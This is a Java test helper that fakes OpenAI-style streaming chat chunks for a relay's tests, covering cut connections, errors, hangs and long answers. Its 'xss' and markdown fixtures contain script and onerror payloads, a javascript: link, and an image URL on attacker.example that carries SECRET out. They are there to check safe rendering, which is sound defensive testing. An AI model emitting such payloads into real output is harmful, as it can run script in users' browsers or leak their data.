package org.chatrelay.testing;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;

/**
 * The canned upstream streams, as OpenAI chat.completion.chunk frames. Scenarios:
 * normal ("Hello world", usage 12/3, [DONE]); slow:N:ms (N tokens); forever:_:ms (tokens until aborted);
 * cut (3 tokens, then the connection drops); error (2 tokens, then an error object); finishnodone (finish_reason,
 * usage, no [DONE]); hang (headers only); length (finish_reason length); nul (a NUL byte in the text);
 * xss (model output that is HTML: an img with onerror and a script element, to check the page shows it as text);
 * md (markdown: a heading, a table, a code block, a safe link, a javascript: link, an external image, raw HTML);
 * long:N:ms (an N-character markdown answer in word-sized tokens, one every ms); count ("Answer n", n counting
 * every count request, so two answers to the same question differ).
 */
final class Script {
    static final String MARKDOWN = "# Heading\n\nSome **bold** text, a [safe link](https://example.org/docs), "
            + "a [bad link](javascript:alert(1)) and an image ![secret](https://attacker.example/p?d=SECRET).\n\n"
            + "| a | b |\n|---|---|\n| 1 | 2 |\n\n```js\nconsole.log(\"copied <ok>\");\n```\n\n<img src=x onerror=alert(1)>\n";
    private static final java.util.concurrent.atomic.AtomicInteger COUNT = new java.util.concurrent.atomic.AtomicInteger();

    enum Kind { FRAME, END, CUT, HANG }

    record Step(Kind kind, byte[] bytes) {
    }

    private final List<Step> steps;
    private final boolean endless;

    private Script(List<Step> steps, boolean endless) {
        this.steps = steps;
        this.endless = endless;
    }

    Step step(int i) {
        if (i < steps.size()) {
            return steps.get(i);
        }
        return endless ? frame(content("tick ")) : new Step(Kind.END, null);
    }

    static Script of(String scenario, int a, int b) {
        List<Step> s = new ArrayList<>();
        s.add(frame(chunk("{\"role\":\"assistant\",\"content\":\"\"}", null)));
        switch (scenario) {
            case "slow" -> {
                for (int i = 0; i < (a > 0 ? a : 10); i++) {
                    s.add(frame(content("t" + i + " ")));
                }
                finish(s, "stop", true);
            }
            case "forever" -> {
                return new Script(s, true);
            }
            case "cut" -> {
                s.add(frame(content("One ")));
                s.add(frame(content("two ")));
                s.add(frame(content("three")));
                s.add(new Step(Kind.CUT, null));
            }
            case "error" -> {
                s.add(frame(content("Partial ")));
                s.add(frame(content("answer")));
                s.add(frame("{\"error\":{\"message\":\"upstream failed\",\"type\":\"server_error\"}}"));
                s.add(new Step(Kind.CUT, null));
            }
            case "finishnodone" -> {
                s.add(frame(content("Almost")));
                s.add(frame(chunk("{}", "\"stop\"")));
                s.add(frame(usage(12, 1)));
            }
            case "hang" -> s.add(new Step(Kind.HANG, null));
            case "length" -> {
                s.add(frame(content("Too long")));
                finish(s, "length", true);
            }
            case "xss" -> {
                s.add(frame(content("<img src=x onerror=alert(1)>")));
                s.add(frame(content("<script>alert(2)</script>")));
                finish(s, "stop", true);
            }
            case "md" -> {
                for (String piece : pieces(MARKDOWN)) {
                    s.add(frame(escaped(piece)));
                }
                finish(s, "stop", true);
            }
            case "long" -> {
                for (String piece : pieces(longText(a > 0 ? a : 20_000))) {
                    s.add(frame(escaped(piece)));
                }
                finish(s, "stop", true);
            }
            case "count" -> {
                s.add(frame(content("Answer ")));
                s.add(frame(content(Integer.toString(COUNT.incrementAndGet()))));
                finish(s, "stop", true);
            }
            case "nul" -> {
                s.add(frame(content("a\\u0000b")));
                finish(s, "stop", true);
            }
            default -> {
                s.add(frame(content("Hel")));
                s.add(frame(content("lo")));
                s.add(frame(content(" world")));
                finish(s, "stop", true);
            }
        }
        return new Script(s, false);
    }

    private static void finish(List<Step> s, String reason, boolean done) {
        s.add(frame(chunk("{}", "\"" + reason + "\"")));
        s.add(frame(usage(12, 3)));
        if (done) {
            s.add(frame("[DONE]"));
        }
    }

    /** Deterministic markdown of exactly {@code chars} characters: headings, paragraphs, lists and code blocks. */
    static String longText(int chars) {
        StringBuilder b = new StringBuilder(chars + 200);
        for (int i = 0; b.length() < chars; i++) {
            switch (i % 4) {
                case 0 -> b.append("## Part ").append(i / 4 + 1).append("\n\n");
                case 1 -> b.append("Streaming answers must stay smooth however long they grow; paragraph ").append(i)
                        .append(" adds more words to the page, and each word arrives as its own token.\n\n");
                case 2 -> b.append("- first point of ").append(i).append("\n- second point, with `inline code`\n- third point\n\n");
                default -> b.append("```java\nint total = ").append(i).append(";\nfor (int k = 0; k < 9; k++) { total += k; }\n```\n\n");
            }
        }
        return b.substring(0, chars);
    }

    /** Word-sized pieces that keep their trailing whitespace, the way providers stream tokens. */
    static List<String> pieces(String text) {
        List<String> out = new ArrayList<>();
        int start = 0;
        for (int i = 1; i <= text.length(); i++) {
            if (i == text.length() || Character.isWhitespace(text.charAt(i - 1)) && !Character.isWhitespace(text.charAt(i))) {
                out.add(text.substring(start, i));
                start = i;
            }
        }
        return out;
    }

    private static String escaped(String text) {
        return chunk("{\"content\":\"" + new String(com.fasterxml.jackson.core.io.JsonStringEncoder.getInstance().quoteAsString(text)) + "\"}", null);
    }

    private static String content(String text) {
        return chunk("{\"content\":\"" + text + "\"}", null);
    }

    private static String chunk(String delta, String finish) {
        return "{\"id\":\"chatcmpl-fake\",\"object\":\"chat.completion.chunk\",\"created\":1,\"model\":\"fake-model-2025\","
                + "\"choices\":[{\"index\":0,\"delta\":" + delta + ",\"finish_reason\":" + finish + "}],\"usage\":null}";
    }

    private static String usage(int prompt, int completion) {
        return "{\"id\":\"chatcmpl-fake\",\"object\":\"chat.completion.chunk\",\"created\":1,\"model\":\"fake-model-2025\","
                + "\"choices\":[],\"usage\":{\"prompt_tokens\":" + prompt + ",\"completion_tokens\":" + completion
                + ",\"total_tokens\":" + (prompt + completion) + "}}";
    }

    private static Step frame(String data) {
        return new Step(Kind.FRAME, ("data: " + data + "\n\n").getBytes(StandardCharsets.UTF_8));
    }
}
